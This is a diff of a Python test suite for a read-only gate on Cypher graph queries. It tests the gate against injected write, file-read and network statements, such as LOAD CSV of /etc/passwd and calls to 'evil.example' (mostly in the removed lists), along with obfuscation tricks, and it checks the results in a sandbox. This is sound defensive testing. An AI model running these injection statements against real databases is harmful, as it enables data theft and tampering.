@@ -2,8 +2,13 @@
 
 from __future__ import annotations
 
+import contextlib
 import re
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
 
+import ladybug
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -13,149 +18,77 @@ from graph.free_cypher import free_cypher
 from graph.store import Dataset
 from model.errors import QueryError
 from queries.questions import list_questions
+from tests.graph.attacks import dressed, mutated, texts
 
-WRITES = [
-    "CREATE (n:Board {iri: 'x'})",
-    "create (n)",
-    "MATCH (n) SET n.name = 'x'",
-    "MATCH (n) SET n:Other RETURN n",
-    "MATCH (n) REMOVE n.name",
-    "MATCH (n) DELETE n",
-    "MATCH (n) DETACH DELETE n",
-    "MATCH (n) NODETACH DELETE n",
-    "MERGE (n:Board {iri: 'x'}) ON CREATE SET n.name = 'y'",
-    "MATCH (n) WITH n FOREACH (x IN [1] | SET n.a = x)",
-    "FOREACH (x IN [1] | CREATE (:X))",
-    "INSERT (:Board {iri: 'x'})",
-    "DROP TABLE Board",
-    "DROP CONSTRAINT samverkan_iri",
-    "CREATE INDEX x FOR (n:Board) ON (n.name)",
-    "CREATE NODE TABLE X(iri STRING PRIMARY KEY)",
-    "CREATE USER mallory SET PASSWORD 'x'",
-    "ALTER TABLE Board ADD x INT64",
-    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
-    "GRANT ROLE admin TO mallory",
-    "RENAME USER a TO b",
-    "MATCH (n) RETURN n; MATCH (n) DELETE n",
-    "MATCH (n) CALL { WITH n CREATE (:X) } RETURN n",
-    "CALL { CREATE (n) RETURN n } RETURN n",
-    "MATCH (n) CALL (n) { SET n.x = 1 } IN TRANSACTIONS OF 10 ROWS",
-    "MATCH (n) WHERE EXISTS { CREATE (m) } RETURN n",
-    "RETURN COUNT { MATCH (n) DELETE n }",
-    "RETURN 1.SET n.x = 1",
-    "RETURN 1 AS x SET x = 2",
-    "MATCH (n) WITH n AS `SET` SET n.x = 1",
-    "EXPLAIN CREATE (n)",
-    "PROFILE MATCH (n) SET n.x = 1",
-    "CYPHER runtime=slotted CREATE (n)",
-    "BEGIN TRANSACTION",
-    "COMMIT",
-    "CHECKPOINT",
+LONG = ["RETURN " + "[" * 60 + "1" + "]" * 60, "RETURN '" + "x" * 20_000 + "'"]
+ATTACKS = texts("cypher") + LONG
+CANARY = "the-words-of-another-file"
+GAPS = [
+    "\n",
+    "\t",
+    "\r\n",
+    "  ",
+    " /* a */ ",
+    " // a\n",
+    "/**/ ",
+    "  /* ' */ ",
+    " /* ` */\n",
+    " //'\n",
+    " /*\n//*/ ",
 ]
-FILES_AND_NETWORK = [
-    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
-    "LOAD CSV WITH HEADERS FROM 'http://evil.example/x' AS line RETURN line",
-    "LOAD FROM '/etc/passwd' RETURN *",
-    "LOAD FROM '/etc/passwd' (file_format='csv') RETURN *",
-    "MATCH (n) LOAD CSV FROM 'http://evil.example/' + n.name AS x RETURN x",
-    "USING PERIODIC COMMIT LOAD CSV FROM 'x' AS l CREATE (n)",
-    "COPY Board FROM '/etc/passwd'",
-    "COPY (MATCH (n) RETURN n.iri) TO '/tmp/x.csv'",
-    "EXPORT DATABASE '/tmp/x'",
-    "IMPORT DATABASE '/tmp/x'",
-    "ATTACH '/tmp/x.db' AS x (dbtype sqlite)",
-    "DETACH x",
-    "INSTALL httpfs",
-    "LOAD EXTENSION httpfs",
-    "UNINSTALL httpfs",
-    "LOAD httpfs",
-    "USE other MATCH (n) RETURN n",
-    "USE graph.byName('x') MATCH (n) RETURN n",
-    "RETURN read_csv_serial('/etc/passwd')",
-]
-PROCEDURES = [
-    "CALL apoc.load.json('http://evil.example/') YIELD value RETURN value",
-    "CALL apoc.cypher.doIt('CREATE (n)', {}) YIELD value RETURN value",
-    "CALL apoc.export.csv.all('/tmp/x', {})",
-    "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n)', {})",
-    "RETURN `apoc`.`load`.`json`('http://evil.example/')",
-    "RETURN `apoc.load.json`('http://evil.example/')",
-    "CALL `db`.`create`.`setNodeVectorProperty`(1, 'a', [1])",
-    "CALL dbms.security.createUser('a', 'b', false)",
-    "CALL dbms.listConfig() YIELD name, value RETURN *",
-    "CALL dbms.listConfig",
-    "CALL db.createLabel('X')",
-    "CALL db.labels() YIELD label CALL apoc.nodes.delete([1], 1) YIELD value RETURN value",
-    "CALL threads=1",
-    "CALL timeout=0 RETURN 1",
-    "CALL clear_warnings()",
-    "CALL project_graph('g', ['Board'], ['SERVES'])",
-    "MATCH (n) RETURN gds.util.asNode(0)",
-    "SHOW USERS",
-    "SHOW TRANSACTIONS",
-    "TERMINATE TRANSACTION 'x'",
-    "RETURN error('x')",
-    "RETURN nextval('s')",
-]
-TRICKS = [
-    "MATCH (n) /* MATCH */ SET n.x = 1",
-    "MATCH (n) // a\nSET n.x = 1",
-    "MATCH (n) // a\rSET n.x = 1",
-    "MATCH (n) /* a // b */ DELETE n",
-    "MATCH (n) \\u0053ET n.x = 1",
-    "MATCH (n) RETURN '\\u0027 SET n.x = 1 //'",
-    "MATCH (n) S\\u0045T n.x = 1",
-    "RETURN 'it\\'s' SET n.x = 1 //'",
-    'RETURN "a\\" CREATE (n) //"',
-    "MATCH (n)\u00a0SET n.x = 1",
-    "MATCH (n)\u2003DELETE n",
-    "MATCH (n)\x0bDELETE n",
-    "MATCH (n)\u2028DELETE n",
-    "MATCH (n) \u017fET n.x = 1",
-    "MATCH (n) \uff33\uff25\uff34 n.x = 1",
-    "MATCH (n) RETURN n /* unclosed",
-    "MATCH (n) RETURN 'unclosed",
-    "MATCH (n) RETURN `unclosed",
-    "RETURN 1 AS count LOADED csv",
-    "WITH 1 AS order RETURN order BREW coffee",
-    "MATCH (n) RETURN n BREW coffee",
-    "MATCH (n) BREW (coffee)",
-    "RETURN * BREW coffee",
-    "WITH * BREW coffee",
-    "RETURN 1 2",
-    "RETURN $x",
-    "RETURN (1",
-    "RETURN 1)",
-    "RETURN [1}",
-    "RETURN " + "(" * 60 + "1" + ")" * 60,
-    "RETURN '" + "x" * 20_000 + "'",
-    "",
-    ";",
-    "/* only a comment */",
-]
-ATTACKS = WRITES + FILES_AND_NETWORK + PROCEDURES + TRICKS
-
-READS = [
-    "MATCH (b:Board) RETURN b.name ORDER BY b.name DESC SKIP 1 LIMIT 5",
-    "MATCH (g:Grant) RETURN sum(g.amountApplied) AS total;",
-    "match (a)-[r:PARTICIPATES_IN]->(b) where 'member' in r.roles return count(*) as n",
-    "MATCH (a:Board) OPTIONAL MATCH (a)<-[:SERVES]-(b) RETURN a.name, collect(DISTINCT b.name)",
-    "MATCH (a:Board) WHERE NOT EXISTS { MATCH (a)-[:PARTICIPATES_IN]->() } RETURN a.name",
-    "MATCH p = (a:Board)-[* SHORTEST 1..4]-(b:Company) RETURN length(p) LIMIT 1",
-    "MATCH (e:Evidence) WHERE e.lineStart >= 3 AND NOT e.lineEnd = 4 OR e.quote CONTAINS 'x' RETURN e.`end`, e.start",
-    "UNWIND [1, 2.5, -3e2] AS x WITH x WHERE x > 1 RETURN CASE WHEN x > 2 THEN 'CREATE' ELSE \"DELETE\" END AS word",
-    "RETURN 'SET // no comment /* either' AS `DROP`, {a: 1, b: NULL} AS m, [1, 2, 3][0..2] AS l",
-    "MATCH (n:Board) RETURN n.name /* CREATE (x) */ UNION ALL MATCH (n:Company) // DELETE\n RETURN n.name",
-    "CALL show_tables() RETURN *",
-    "MATCH (c:`Case`) RETURN c.name",
-    "MATCH (n:Area|Unit) RETURN n.name AS ort, n.`set` IS NOT NULL AS åäö",
-]
-SYNTAX_ONLY = [
-    "CALL db.labels() YIELD label RETURN label",
-    "MATCH (n) CALL (n) { MATCH (n)-->(m) RETURN count(m) AS k } RETURN n, k",
-    "MATCH p = shortestPath((a:Board)-[*1..6]-(b:Unit)) RETURN [x IN nodes(p) | x.name]",
-    "MATCH (n) WHERE any(x IN n.otherNames WHERE x STARTS WITH 'K') RETURN n.name ORDER BY n.name ASC",
-    "MATCH (n:Board) RETURN COUNT { MATCH (n)-->() } AS grad, toLower(n.name) AS namn",
+PIECES = [
+    *(
+        "MATCH (n)",
+        "RETURN n",
+        "RETURN 1",
+        "WITH n",
+        "UNWIND [1] AS n",
+        "WHERE n.x = 'a'",
+        "UNION",
+        "AS x",
+        "n.name",
+        "1",
+        "*",
+    ),
+    *(
+        "SET n.name = 'x'",
+        "DELETE n",
+        "CREATE (:Board {iri: 'new'})",
+        "LOAD FROM 'CANARY' RETURN *",
+        "COPY Board TO 'out.csv'",
+    ),
+    *(
+        "EXPORT DATABASE 'out'",
+        "DROP TABLE Board",
+        "MERGE (:Board {iri: 'new'})",
+        "CALL { CREATE (:Board {iri: 'new'}) }",
+        "CALL threads=1",
+    ),
+    *(
+        "'",
+        '"',
+        "`",
+        "/*",
+        "*/",
+        "//",
+        "\n",
+        ";",
+        "{",
+        "}",
+        "(",
+        ")",
+        "[",
+        "]",
+        ".",
+        ",",
+        "|",
+        ":",
+        "=",
+        "'x'",
+        "`x`",
+        "NOT",
+        "EXISTS {",
+    ),
 ]
 
 
@@ -171,7 +104,7 @@ def test_attack_is_refused(statement: str) -> None:
         demand_reading(statement)
 
 
-@pytest.mark.parametrize("statement", READS)
+@pytest.mark.parametrize("statement", texts("cypher-harmless", "answered"))
 def test_reading_passes_and_is_answered(dataset: Dataset, statement: str) -> None:
     """The gate goes by what a statement means, not by frightening words in it."""
     if "`set`" not in statement:
@@ -179,7 +112,7 @@ def test_reading_passes_and_is_answered(dataset: Dataset, statement: str) -> Non
     assert "CREATE (x)" not in demand_reading(statement)
 
 
-@pytest.mark.parametrize("statement", SYNTAX_ONLY)
+@pytest.mark.parametrize("statement", texts("cypher-harmless", "neo4j"))
 def test_what_only_neo4j_understands_passes_too(statement: str) -> None:
     """Subqueries, comprehensions and its procedures that tell the schema."""
     assert demand_reading(statement) == statement
@@ -199,7 +132,6 @@ FORBIDDEN_CLAUSES = [
     "EXPORT DATABASE 'x'", "IMPORT DATABASE 'x'", "ATTACH 'x' AS y", "INSTALL httpfs", "USE x",
     "CALL apoc.load.json('x') YIELD value", "CALL { CREATE (x) }", "INSERT (x)", "ALTER TABLE Board DROP x",
 ]  # fmt: skip
-GAPS = [" ", "\n", "\t", "\r\n", " /* a */ ", " // a\n", "/**/", "  /* ' */ ", " /* ` */\n"]
 BEFORE = [
     "MATCH (n)",
     "MATCH (n) WHERE n.x = 'a'",
@@ -214,32 +146,83 @@ AFTER = ["", "RETURN n", "RETURN 1 AS x", "UNION MATCH (n) RETURN n", "// a"]
 @given(st.data())
 def test_no_dress_hides_a_forbidden_clause(data: st.DataObject) -> None:
     """Any case, any comments and spaces between the words, before and after other clauses."""
-    words = data.draw(st.sampled_from(FORBIDDEN_CLAUSES)).split(" ")
-    first = "".join(data.draw(st.sampled_from([letter.upper(), letter.lower()])) for letter in words[0])
-    parts = [data.draw(st.sampled_from(BEFORE)), first, *words[1:], data.draw(st.sampled_from(AFTER))]
-    statement = "".join(part + data.draw(st.sampled_from(GAPS)) for part in parts)
+    parts = (data.draw(st.sampled_from(each)) for each in (BEFORE, FORBIDDEN_CLAUSES, AFTER))
+    statement = " ".join(part for part in parts if part)
     with pytest.raises(QueryError):
-        demand_reading(statement)
+        demand_reading(data.draw(dressed(statement, GAPS)))
 
 
-@given(st.sampled_from(WRITES + FILES_AND_NETWORK + PROCEDURES), st.data())
-def test_no_change_of_one_character_opens_the_gate_to_a_clause(attack: str, data: st.DataObject) -> None:
-    """A character put into an attack or taken from it: refused, or no forbidden word is left outside quotes."""
-    place = data.draw(st.integers(0, len(attack)))
-    sign = data.draw(
-        st.sampled_from(
-            ["", "'", '"', "`", "/", "*", "\\", "\n", "\r", ";", "$", ".", ":", "{", "}", "\u00a0"]
-        )
-    )
-    changed = attack[:place] + sign + attack[place + (sign == "") :]
-    try:
-        passed = demand_reading(changed)
-    except QueryError:
-        return
-    bare = re.sub(r"'[^']*'|\"[^\"]*\"|`[^`]*`", " ", passed)
-    assert not re.search(
-        r"\b(CREATE|SET|DELETE|MERGE|REMOVE|DROP|LOAD|COPY|INSTALL|USE|FOREACH|apoc)\b", bare, re.I
-    )
+@given(st.data())
+def test_no_dress_hides_an_attack(data: st.DataObject) -> None:
+    """Nor one of the list."""
+    with pytest.raises(QueryError):
+        demand_reading(data.draw(dressed(data.draw(st.sampled_from(ATTACKS)), GAPS)))
+
+
+@dataclass(frozen=True)
+class Sandbox:
+    """A database that can be written, in a folder of its own, beside a file that no one may read."""
+
+    folder: Path
+    connection: ladybug.Connection
+
+    def state(self) -> tuple[object, ...]:
+        """What there is: tables, nodes, files."""
+        boards = self.rows("MATCH (n:Board) RETURN n.iri, n.name, n.x ORDER BY n.iri")
+        files = sorted(str(file) for file in self.folder.rglob("*") if not file.name.startswith("db"))
+        return boards, self.rows("CALL show_tables() RETURN name ORDER BY name"), files
+
+    def rows(self, statement: str) -> list[object]:
+        """All rows of all results of a statement."""
+        results = self.connection.execute(statement)
+        return [list(result) for result in (results if isinstance(results, list) else [results])]
+
+    def demand_harmless(self, statement: str) -> None:
+        """Run what the gate let through, on an engine that holds nothing back: nothing is changed or read."""
+        before, found = self.state(), "[]"
+        with contextlib.suppress(RuntimeError, ValueError):
+            found = str(self.rows(statement.replace("CANARY", str(self.folder / "canary.csv"))))
+        assert CANARY not in found
+        assert self.state() == before
+
+
+@pytest.fixture(scope="module")
+def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
+    """Such a database with one board in it; the working folder is its own meanwhile."""
+    folder = tmp_path_factory.mktemp("sandbox")
+    (folder / "canary.csv").write_text(f"{CANARY}\n", encoding="utf-8")
+    connection = ladybug.Connection(ladybug.Database(str(folder / "db"), max_db_size=1 << 30))
+    connection.set_query_timeout(5000)
+    connection.execute("CREATE NODE TABLE Board(iri STRING PRIMARY KEY, name STRING, x INT64)")
+    connection.execute("CREATE (:Board {iri: 'a', name: 'b', x: 1})")
+    with contextlib.chdir(folder):
+        yield Sandbox(folder, connection)
+    connection.close()
+
+
+def test_the_sandbox_can_be_harmed(sandbox: Sandbox) -> None:
+    """What the gate keeps out would get through without it: the tests below can fail."""
+    for harm in (
+        "MATCH (n:Board) SET n.x = 2",
+        "LOAD FROM 'CANARY' RETURN *",
+        "COPY (MATCH (n) RETURN n.x) TO 'o.csv'",
+    ):
+        with pytest.raises(AssertionError):
+            sandbox.demand_harmless(harm)
+
+
+@given(st.sampled_from(texts("cypher")).flatmap(mutated))
+def test_what_a_changed_attack_gets_through_is_harmless(sandbox: Sandbox, statement: str) -> None:
+    """A sign put in or taken away: refused, or no attack any longer, as the engine itself shows."""
+    with contextlib.suppress(QueryError):
+        sandbox.demand_harmless(demand_reading(statement))
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=10).map(" ".join))
+def test_what_is_put_together_of_pieces_is_refused_or_harmless(sandbox: Sandbox, pieces: str) -> None:
+    """Quotes, comments and brackets in any order around clauses that write."""
+    with contextlib.suppress(QueryError):
+        sandbox.demand_harmless(demand_reading(f"MATCH (n:Board) {pieces}"))
 
 
 @given(st.text(max_size=80))
